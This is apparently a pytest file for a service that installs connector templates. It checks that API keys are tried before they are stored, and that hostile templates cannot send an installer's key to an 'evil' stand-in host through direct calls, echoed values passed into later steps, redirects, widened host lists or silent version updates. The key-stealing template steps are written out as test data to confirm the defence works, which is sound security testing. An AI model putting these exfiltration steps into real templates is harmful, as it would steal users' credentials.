"""Before an install: keys tested and the whole tried on a contact, with nothing kept; and what a
hostile template can do with the key of somebody who installs it."""

import psycopg
import pytest
from psycopg.types.json import Jsonb

from app.main import build
from app.services.installing import slot_of
from app.services.problems import BadInput, Conflict, NotAllowed
from app.services.testing import Trial
from app.settings import Settings
from db.logins import Logins
from engine.effects.master_key import MasterKey
from tests.app.running.test_templates import KEY, SLOT, add_template
from tests.providers.service import Service
from tests.providers.tokens import CLIENT

TYPED = {"people": {"api_key": KEY}}
ADA = Trial(contact={"email": "ada@example.com"})


@pytest.fixture
def evil():
    """Another host, as reachable as the one the key is for."""
    made = Service().start()
    yield made
    made.stop()


@pytest.fixture
async def console(owner_url, console_url, service, evil):
    settings = Settings(allow_private=f"{service.host},{evil.host}")
    logins = Logins(owner_url, console_url)
    made = build(settings, logins, MasterKey(bytes(range(32))), with_pages=False)
    await made.start(with_worker=True)
    yield made
    await made.stop()


@pytest.fixture
def template(owner_url, service) -> str:
    test = {"method": "GET", "url": f"{service.url}/locked/header"}
    slot = {**SLOT, "allowed_hosts": [service.host], "test": test}
    return add_template(
        owner_url,
        service,
        "Find people",
        slots=Jsonb([slot]),
        field_mappings=Jsonb([{"field": "city", "value": "Oslo"}]),
    )


def kept(owner_url: str) -> dict[str, int]:
    tables = (
        "connectors", "workspace_api_credentials", "template_installs", "credential_tokens",
        "connector_steps_cache", "connector_executions", "contact_field_writes", "service_pauses",
    )  # fmt: skip
    with psycopg.connect(owner_url) as owner:
        counts = {one: owner.execute(f"select count(*) from {one}").fetchone()[0] for one in tables}
    return {one: count for one, count in counts.items() if count}


async def test_a_key_is_tested_before_it_is_kept(console, acme, template, owner_url):
    installing = console.services.installing
    looked = await installing.look(acme.admin, template)
    slot = slot_of(looked, "people").slot
    good = await installing.test_key(acme.admin, slot, {"api_key": KEY})
    bad = await installing.test_key(acme.admin, slot, {"api_key": "not-the-key-at-all"})
    assert (good.status, bad.status) == ("success", "failed")
    assert KEY not in str(good)
    assert kept(owner_url) == {}
    with pytest.raises(BadInput):
        await installing.test_key(acme.admin, slot, {"api_key": ""})
    with pytest.raises(NotAllowed):
        await installing.test_key(acme.editor, slot, {"api_key": KEY})


async def test_the_whole_is_tried_on_a_contact_before_anything_is_kept(
    console, acme, template, owner_url
):
    installing = console.services.installing
    looked = await installing.look(acme.admin, template)
    tried = await installing.try_on(acme.admin, looked, TYPED, ADA)
    assert (tried.status, tried.outcome) == ("success", "found")
    assert [(one["field"], one["before"], one["after"]) for one in tried.would_write] == [
        ("city", None, "Oslo")
    ]
    assert kept(owner_url) == {}


async def test_a_login_for_a_try_leaves_no_token_behind(
    console, acme, owner_url, service, template
):
    slot = {
        **SLOT,
        "auth": {
            "type": "oauth2_client_credentials",
            "token_url": f"{service.url}/oauth/token",
        },
        "fields": [
            {"name": "client_id", "title": "Client", "secret": False},
            {"name": "client_secret", "title": "Secret"},
        ],
        "allowed_hosts": [service.host],
        "test": {"method": "GET", "url": f"{service.url}/locked/oauth"},
    }
    typed = dict(zip(("client_id", "client_secret"), CLIENT, strict=True))
    tested = await console.services.installing.test_key(acme.admin, slot, typed)
    assert tested.status == "success", tested.error_message
    assert kept(owner_url) == {}


async def test_what_was_looked_at_is_what_is_tried(console, acme, template, owner_url, service):
    looked = await console.services.installing.look(acme.admin, template)
    with psycopg.connect(owner_url) as owner:
        owner.execute("update connector_templates set field_mappings = '[]'")
    with pytest.raises(Conflict):
        await console.services.installing.try_on(acme.admin, looked, TYPED, ADA)
    assert service.calls() == []


async def test_a_key_that_is_there_is_used_and_its_limits_are_said(
    console, api, acme, template, service, owner_url
):
    key = {
        "service_name": "people",
        "auth": SLOT["auth"],
        "credentials": {"api_key": KEY},
        "allowed_hosts": ["api.people.example"],
    }
    await api.post("/workspace/credentials", json=key)
    looked = await console.services.installing.look(acme.editor, template)
    assert slot_of(looked, "people").kept_from == (service.host,)
    tried = await console.services.installing.try_on(acme.editor, looked, {}, ADA)
    assert tried.status == "failed"
    assert service.calls() == []


# -- a template whose author wants the key --


def hostile(owner_url, service, evil, *, hosts, steps) -> str:
    template = add_template(
        owner_url, service, "Free leads", slots=Jsonb([{**SLOT, "allowed_hosts": hosts}])
    )
    with psycopg.connect(owner_url) as owner:
        owner.execute(
            "update connector_templates set config = %s where id = %s",
            [Jsonb({"steps": steps}), template],
        )
    return template


def call(id_: str, url: str, **more) -> dict:
    credential = more.pop("credential", None)
    request = {"method": "POST", "url": url, **more.pop("request", {})}
    return {"id": id_, "kind": "http", "credential": credential, "request": request, **more}


async def run(api, template, ada, given) -> dict:
    answer = await api.post(f"/connector-templates/{template}/install", json={"credentials": given})
    assert answer.status_code == 201, answer.text
    address = f"/connectors/{answer.json()['id']}/execute"
    ran = await api.post(address, json={"contact_id": ada}, headers={"Prefer": "wait=30"})
    return ran.json()


def leaked(evil) -> bool:
    return any(KEY in str(vars(one)) for one in evil.calls())


async def test_a_hostile_template_cannot_send_the_key_where_nobody_agreed_to(
    api, owner_url, service, evil, ada
):
    straight = call("steal", f"{evil.url}/echo", credential="people")
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[straight])
    ran = await run(api, template, ada, TYPED)
    assert ran["status"] == "failed"
    assert evil.calls() == []


async def test_a_hostile_template_cannot_pass_on_a_key_that_a_service_repeats(
    api, owner_url, service, evil, ada
):
    first = call(
        "first",
        f"{service.url}/echo",
        credential="people",
        extract={"all": "$", "key": "$.headers['x-api-key']"},
    )
    second = call(
        "second",
        f"{evil.url}/echo?k={{{{ steps.first.key }}}}",
        request={"body": {"json": {"all": "{{ steps.first.all }}", "b": "{{ steps.first.body }}"}}},
    )
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[first, second])
    await run(api, template, ada, TYPED)
    assert service.calls("/echo")[0].headers["x-api-key"] == KEY
    assert len(evil.calls()) == 1
    assert not leaked(evil)


async def test_a_hostile_template_cannot_follow_a_redirect_with_the_key(
    api, owner_url, service, evil, ada
):
    away = call("away", f"{service.url}/redirect", credential="people")
    away["request"] |= {"method": "GET", "query": {"to": f"{evil.url}/echo"}}
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[away])
    await run(api, template, ada, TYPED)
    assert service.calls("/redirect")[0].headers["x-api-key"] == KEY
    assert not leaked(evil)


async def test_a_key_that_was_there_before_goes_nowhere_a_template_names(
    api, owner_url, service, evil, ada
):
    """The victim has the key already; the template's own list of hosts does not widen it."""
    key = {
        "service_name": "people",
        "auth": SLOT["auth"],
        "credentials": {"api_key": KEY},
        "allowed_hosts": [service.host],
    }
    await api.post("/workspace/credentials", json=key)
    straight = call("steal", f"{evil.url}/echo", credential="people")
    hosts = [service.host, evil.host]
    template = hostile(owner_url, service, evil, hosts=hosts, steps=[straight])
    ran = await run(api, template, ada, {})
    assert ran["status"] == "failed"
    assert evil.calls() == []
    (kept_key,) = (await api.get("/workspace/credentials")).json()["items"]
    assert kept_key["allowed_hosts"] == [service.host]


async def test_a_newer_version_cannot_take_the_key_along_unasked(
    api, owner_url, service, evil, ada
):
    fine = call("find", f"{service.url}/echo", credential="people")
    template = hostile(owner_url, service, evil, hosts=[service.host], steps=[fine])
    ran = await run(api, template, ada, TYPED)
    with psycopg.connect(owner_url) as owner:
        slots = [{**SLOT, "allowed_hosts": [service.host, evil.host]}]
        steps = [call("find", f"{evil.url}/echo", credential="people")]
        owner.execute(
            "update connector_templates set config = %s, slots = %s",
            [Jsonb({"steps": steps}), Jsonb(slots)],
        )
    address = f"/connectors/{ran['connector_id']}"
    seen = (await api.get(f"{address}/update")).json()
    body = {"version": 1, "template_version": seen["template_version"]}
    assert (await api.post(f"{address}/update", json=body)).status_code == 409
    for _ in range(2):
        await api.post(
            f"{address}/execute", json={"contact_id": ada}, headers={"Prefer": "wait=30"}
        )
    assert evil.calls() == []
